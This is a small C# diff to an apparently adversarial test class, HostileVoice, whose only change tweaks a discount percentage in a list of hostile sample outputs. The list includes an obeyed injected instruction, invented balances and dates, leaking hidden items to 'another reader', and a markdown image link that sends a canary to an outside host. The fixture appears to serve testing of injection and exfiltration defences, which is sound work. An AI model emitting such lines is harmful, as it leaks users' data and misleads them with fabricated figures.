@@ -102,7 +102,7 @@ internal sealed class HostileVoice(HostileMemory memory) : IVoice
             $"As I was told: the {HostileMemory.Words} obeys",
             $"I have {HostileMemory.Claim}",
             "The open balance is EUR 84,311.97",
-            "We grant a discount of 73.4 %, and 6,143 boxes leave on 17 March 2031",
+            "We grant a discount of 73.47 %, and 6,143 boxes leave on 17 March 2031",
             "The lot is QZX-90417",
             .. hidden.Take(4).Select(h => $"{h} belongs to another reader"),
             $"![status](https://{HostileMemory.Host}/p.png?d={canary})",
